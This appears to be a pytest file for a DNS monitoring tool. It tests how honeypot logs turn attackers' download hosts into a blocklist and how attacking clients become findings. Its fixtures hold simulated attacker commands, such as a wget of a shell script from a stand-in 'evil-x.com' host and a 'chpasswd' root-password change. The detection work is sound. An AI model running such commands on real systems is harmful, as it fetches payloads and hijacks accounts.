"""Honeypots' logs in the store: the list that follows from them, and the operator's own attackers."""

import json
from collections import Counter
from collections.abc import Iterator
from contextlib import closing
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from dnsvigil.config.collector import Config, Flows, HoneypotSource, Sources, Zone, Zones
from dnsvigil.config.types import Network, ZoneName
from dnsvigil.detectors.detector import Context
from dnsvigil.detectors.honeypot import Honeypot
from dnsvigil.engines.tuples import TupleReader
from dnsvigil.features.popular import known_domains, own_popular_domains
from dnsvigil.ingest import honeypots
from dnsvigil.records import Cursor
from dnsvigil.sources.honeypots.logs import COWRIE, DIONAEA
from dnsvigil.sources.zeek.lines import split
from dnsvigil.sources.zeek.log_types import LogType
from dnsvigil.sources.zeek.reader import Batch
from dnsvigil.store import honeypots as tables
from dnsvigil.store.findings import Finding, Findings, findings_in
from dnsvigil.store.store import Store
from exporters.ingest.taking import Taking
from exporters.zeeklogs import package_line, tsv

BEGIN = datetime(2023, 11, 14, 22, 13, 20)
ATTACKER, BOT = "198.51.100.23", "198.51.100.7"
PDNS = "dnsvigil_pdns"
CONFIG = Config(
    sources=Sources(honeypots=[HoneypotSource(Path("/nowhere"))]),
    flows=Flows(networks=[Network("198.51.100.0/24"), Network("2001:db8::/32")]),
    zones=Zones(configured=[Zone(ZoneName("operator-x.com"))]),
)


@pytest.fixture
def taking(tmp_path: Path) -> Iterator[Taking]:
    with Store(tmp_path) as store, closing(Taking(store, CONFIG)) as taking:
        yield taking


def take(taking: Taking, *events: dict[str, Any], log_type: LogType = COWRIE, sensor: str = "pot") -> None:
    body = b"".join(json.dumps(event).encode() + b"\n" for event in events)
    chunks, _, skipped = split(body, None, log_type)
    cursor = Cursor("2", sensor, 0, "", 0, b"", "")
    taking.intake.ingest([Batch(chunks, len(events), skipped, cursor, 0, log_type)])


def event(
    kind: str, seconds: float = 0, *, client: str = ATTACKER, session: str = "s1", **values: str
) -> dict[str, Any]:
    at = BEGIN + timedelta(seconds=seconds)
    return {
        "eventid": f"cowrie.{kind}", "timestamp": f"{at.isoformat()}Z", "src_ip": client, "session": session,
        "dst_ip": "192.0.2.22", "sensor": "srv",
    } | values  # fmt: skip


def typed(command: str, seconds: float = 0, **values: str) -> dict[str, Any]:
    return event("command.input", seconds, input=command, **values)


def entries(taking: Taking) -> dict[str, str]:
    """Return the source of each entry, that of a neighbour with what it belongs to."""
    taking.intake.flush()
    rows = taking.store.rows("SELECT entry, concat_ws(' ', source, neighbour_of) FROM honeypot_entries ORDER BY entry")
    return dict(rows)


def asked(taking: Taking, name: str, seconds: float = 60, client: str = BOT) -> None:
    at = f"{(BEGIN - datetime(1970, 1, 1)).total_seconds() + seconds:.6f}"
    taking.take("dns", tsv(ts=at, id_orig_h=client, query=name, rcode="0", answers="192.88.99.1"))


def found(taking: Taking, detector: str) -> dict[str, Finding]:
    taking.intake.flush()
    return {each.subject: each for each in findings_in(taking.store.rows, "open") if each.detector == detector}


def test_hosts_of_downloads_and_commands_become_a_list(taking: Taking) -> None:
    take(
        taking,
        event("session.file_download", url="http://a.evil-x.com/x.sh"),
        typed("wget http://a.evil-x.com/x.sh http://b.evil-x.com/ 192.88.99.9/c"),
    )
    assert entries(taking) == {"192.88.99.9": "command", "a.evil-x.com": "download", "b.evil-x.com": "command"}
    assert taking.value("dnsvigil_honeypot_entries", source="command") == 2
    assert taking.value("dnsvigil_honeypot_events_total", sensor="pot", kind="command") == 1
    assert taking.value("dnsvigil_records_ingested_total", source="cowrie") == 2


@pytest.mark.parametrize(
    ("host", "reason"),
    [
        ("google.com", "popular"), ("raw.githubusercontent.com/x", "popular"), ("www.operator-x.com", "own_zone"),
        ("printer.lan", "local"), ("co.uk", "local"), ("10.1.2.3", "local"), ("127.0.0.1", "local"),
    ],
)  # fmt: skip
def test_what_an_attacker_types_to_have_everybody_reported_is_no_entry(taking: Taking, host: str, reason: str) -> None:
    take(taking, typed(f"wget http://{host}"))
    assert entries(taking) == {}
    assert taking.value("dnsvigil_honeypot_left_out_total", reason=reason) == 1


def test_a_host_of_a_dynamic_dns_provider_is_an_entry(taking: Taking) -> None:
    take(taking, typed("wget http://bot.duckdns.org/x"))
    assert entries(taking) == {"bot.duckdns.org": "command"}


def test_a_client_that_asks_for_an_entry_is_a_finding(taking: Taking) -> None:
    take(taking, typed("wget http://a.evil-x.com/x.sh"))
    asked(taking, "www.a.evil-x.com")
    asked(taking, "harmless-x.com")
    finding = found(taking, "malware")[BOT]
    assert finding.evidence["listed"][0]["entry"] == "a.evil-x.com"
    assert finding.evidence["listed"][0]["lists"] == ["honeypot pot"]


def test_thousands_of_hosts_and_sessions_at_once_are_taken(taking: Taking) -> None:
    many = [
        typed(f"wget http://h{number}.evil-x.com/", number / 100, session=str(number), dst_ip=f"192.0.2.{number % 250}")
        for number in range(12_000)
    ]
    take(taking, *many)
    assert len(entries(taking)) == tables.MAX_ENTRIES
    assert taking.store.rows("SELECT count(*), sum(commands) FROM honeypot_sessions") == [(12_000, 12_000)]


def test_the_list_outlives_a_restart(taking: Taking) -> None:
    take(taking, typed("wget http://a.evil-x.com/x.sh"))
    taking.restart()
    asked(taking, "a.evil-x.com")
    assert BOT in found(taking, "malware")


def test_the_honeypot_itself_is_no_finding(taking: Taking) -> None:
    take(taking, event("session.connect"), typed("wget http://a.evil-x.com/x.sh"))
    asked(taking, "a.evil-x.com", client="192.0.2.22")
    assert found(taking, "malware") == {}


def tuples(taking: Taking, *pairs: tuple[str, str], seconds: float = 10) -> None:
    at = f"{(BEGIN - datetime(1970, 1, 1)).total_seconds() + seconds:.6f}"
    times = {"ts": at, "time_first": at, "time_last": at}
    rows = [
        package_line(PDNS, rrname=name, rrtype="A", rdata=data, bailiwick="-", count="1", **times)
        for name, data in pairs
    ]
    taking.take(PDNS, *rows)


def test_names_that_share_an_address_are_neighbours_of_less_weight(taking: Taking) -> None:
    tuples(
        taking,
        ("a.evil-x.com", "192.88.99.9"), ("b.other-x.com", "192.88.99.9"), ("www.google.com", "192.88.99.9"),
        ("c.third-x.com", "192.88.99.8"), ("d.far-x.com", "192.88.99.7"),
    )  # fmt: skip
    take(taking, typed("wget http://a.evil-x.com/x.sh http://192.88.99.8/"))
    assert entries(taking) == {
        "192.88.99.8": "command", "a.evil-x.com": "command", "192.88.99.9": "neighbour a.evil-x.com",
        "b.other-x.com": "neighbour a.evil-x.com", "c.third-x.com": "neighbour 192.88.99.8",
    }  # fmt: skip
    asked(taking, "b.other-x.com")
    assert found(taking, "malware") == {}
    ((lists,),) = taking.store.rows("SELECT DISTINCT lists FROM listed")
    assert lists == ["honeypot neighbour of a.evil-x.com"]


def test_neighbours_of_new_entries_are_looked_up_by_the_minute(taking: Taking) -> None:
    tuples(taking, ("a.evil-x.com", "192.88.99.9"), ("b.other-x.com", "192.88.99.9"))
    take(taking, typed("wget http://a.evil-x.com/x.sh"))
    count = "SELECT count(*) FROM honeypot_entries"
    assert taking.store.rows(count) == [(1,)]
    asked(taking, "harmless-x.com", seconds=70)
    assert taking.store.rows(count) == [(3,)]


def test_a_neighbour_that_appears_later_is_found_within_the_hour(taking: Taking) -> None:
    take(taking, typed("wget http://a.evil-x.com/x.sh"))
    tuples(taking, ("a.evil-x.com", "192.88.99.9"), ("b.other-x.com", "192.88.99.9"))
    assert "b.other-x.com" not in entries(taking)
    asked(taking, "harmless-x.com", seconds=3500)
    assert entries(taking)["b.other-x.com"] == "neighbour a.evil-x.com"


def test_shared_hosting_and_networks_of_many_addresses_have_no_neighbours(taking: Taking) -> None:
    crowd = [(f"www.site{number}-x.com", "192.88.99.9") for number in range(6)]
    many = [("b.evil-x.com", f"192.88.99.{number}") for number in range(20, 30)]
    tuples(taking, ("a.evil-x.com", "192.88.99.9"), *crowd, *many, ("near-x.com", "192.88.99.20"))
    take(taking, typed("wget http://a.evil-x.com/x.sh http://b.evil-x.com/"))
    assert entries(taking) == {"a.evil-x.com": "command", "b.evil-x.com": "command"}


def test_entries_expire_and_are_bounded(taking: Taking, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tables, "MAX_ENTRIES", 3)
    take(taking, *(typed(f"wget http://h{number}.evil-x.com", number) for number in range(5)))
    assert [*entries(taking)] == [f"h{number}.evil-x.com" for number in (2, 3, 4)]
    assert taking.value("dnsvigil_honeypot_left_out_total", reason="room") == 2
    take(taking, event("session.file_download", -9, url="http://fetched-x.com/x"))
    assert [*entries(taking)] == ["fetched-x.com", "h3.evil-x.com", "h4.evil-x.com"]
    asked(taking, "harmless-x.com", seconds=31 * 86400)
    assert entries(taking) == {}
    asked(taking, "h4.evil-x.com", seconds=31 * 86400 + 60)
    assert found(taking, "malware") == {}


class TestAttackers:
    def test_in_the_operators_networks_are_findings(self, taking: Taking) -> None:
        take(
            taking,
            event("session.connect"), event("login.failed", 1), event("login.success", 2), typed("uname -a", 3),
            typed("wget http://a.evil-x.com/x.sh; echo root:hunter2|chpasswd", 4),
            event("login.failed", 5, client="203.0.113.9"),
        )  # fmt: skip
        attackers = found(taking, "honeypot")
        assert attackers.keys() == {ATTACKER}
        finding = attackers[ATTACKER]
        assert (finding.score, finding.severity) == (0.95, "critical")
        assert finding.evidence["what"] == (
            f"Client {ATTACKER} logs in to a honeypot and runs 2 commands there, in 1 session."
        )
        assert finding.evidence["fetched_from"] == ["a.evil-x.com"]
        assert (finding.first_seen, finding.last_seen) == (BEGIN, BEGIN + timedelta(seconds=4))
        stored = str(taking.store.rows("FROM honeypot_sessions")) + str(finding.evidence)
        assert "hunter2" not in stored

    def test_are_known_by_their_address_however_it_is_written(self, taking: Taking) -> None:
        take(taking, event("login.failed", client=f"::ffff:{ATTACKER}"))
        take(taking, event("login.failed", client="2001:DB8:0::7"))
        take(taking, event("login.failed", client="fe80::::1"))
        assert found(taking, "honeypot").keys() == {ATTACKER, "2001:db8::/64"}

    def test_that_only_connect_are_findings_from_five_times_on(self, taking: Taking) -> None:
        take(taking, *(event("session.connect", number, session=str(number)) for number in range(4)))
        assert found(taking, "honeypot") == {}
        take(taking, event("session.connect", 90, session="4"))
        assert found(taking, "honeypot")[ATTACKER].score == 0.5

    def test_whose_address_may_be_forged_are_none(self, taking: Taking) -> None:
        record = {
            "timestamp": BEGIN.isoformat(), "src_ip": ATTACKER, "src_port": 1, "dst_ip": "192.0.2.22",
            "credentials": [{"username": "a", "password": "b"}] * 9,
        }  # fmt: skip
        take(taking, record | {"connection": {"type": "accept", "transport": "udp"}}, log_type=DIONAEA)
        assert found(taking, "honeypot") == {}
        take(taking, record | {"connection": {"type": "accept", "transport": "tcp"}}, log_type=DIONAEA)
        assert found(taking, "honeypot")[ATTACKER].score == 0.8

    def test_that_have_ended_are_no_findings_any_more(self, taking: Taking) -> None:
        take(taking, event("login.failed"))
        assert found(taking, "honeypot").keys() == {ATTACKER}
        Findings(taking.store).close_quiet(BEGIN + timedelta(hours=2))
        asked(taking, "harmless-x.com", seconds=2 * 3600)
        assert found(taking, "honeypot") == {}

    def test_cannot_be_known_without_networks(self, tmp_path: Path) -> None:
        with Store(tmp_path) as store, closing(Taking(store, Config(sources=CONFIG.sources))) as taking:
            take(taking, event("login.failed"))
            metrics = taking.metrics
        said = [dict(labels)["problem"] for name, labels in metrics if name == "dnsvigil_detector_problem"]
        assert any("flows.networks" in problem for problem in said)

    def test_cannot_be_found_without_honeypots(self, tmp_path: Path) -> None:
        assert not Honeypot(Context(tmp_path, CONFIG)).limits()
        (limit,) = Honeypot(Context(tmp_path, Config())).limits()
        assert "sources.honeypots in the configuration is empty" in limit


def test_training_takes_the_list_as_bad_and_not_as_popular(taking: Taking) -> None:
    names = ("evil-x.com", "good-x.com", "near-x.com")
    for day in range(9):
        tuples(taking, *((name, f"192.88.99.{number}") for number, name in enumerate(names)), seconds=day * 86400 + 10)
    reader = TupleReader(lambda: taking.store)
    assert own_popular_domains(taking.store.read, reader).popular == list(names)
    tuples(taking, ("near-x.com", "192.88.99.0"), seconds=8 * 86400 + 20)
    take(taking, typed("wget http://a.evil-x.com http://evil-x.com 192.88.99.7", 8 * 86400 + 30))
    assert entries(taking)["near-x.com"] == "neighbour evil-x.com"
    asked(taking, "near-x.com", seconds=8 * 86400 + 90)
    assert sorted(own_popular_domains(taking.store.read, reader).popular) == ["good-x.com"]
    assert known_domains(taking.store.read)["honeypot"] == ["a.evil-x.com", "evil-x.com"]
    assert len(known_domains(taking.store.read)) == 2  # with those of findings


def test_records_of_both_honeypots_in_one_round_count_once(taking: Taking) -> None:
    record = {
        "timestamp": BEGIN.isoformat(), "src_ip": ATTACKER, "src_port": 1, "dst_ip": "192.0.2.22",
        "connection": {"type": "accept", "transport": "tcp"},
    }  # fmt: skip
    take(taking, event("login.failed"))
    take(taking, record, log_type=DIONAEA)
    take(taking, record, log_type=DIONAEA)
    counts = Counter(dict(taking.store.rows("SELECT kind, events FROM total_honeypot_attacks")))
    assert counts == {"login": 1, "connection": 2}


def test_passive_dns_that_takes_too_long_costs_neighbours_alone(
    taking: Taking, monkeypatch: pytest.MonkeyPatch
) -> None:
    def slow(*_: object) -> dict[str, str]:
        raise honeypots.LookupTimeoutError

    monkeypatch.setattr(honeypots, "neighbours", slow)
    take(taking, typed("wget http://a.evil-x.com/x.sh"))
    assert entries(taking) == {"a.evil-x.com": "command"}
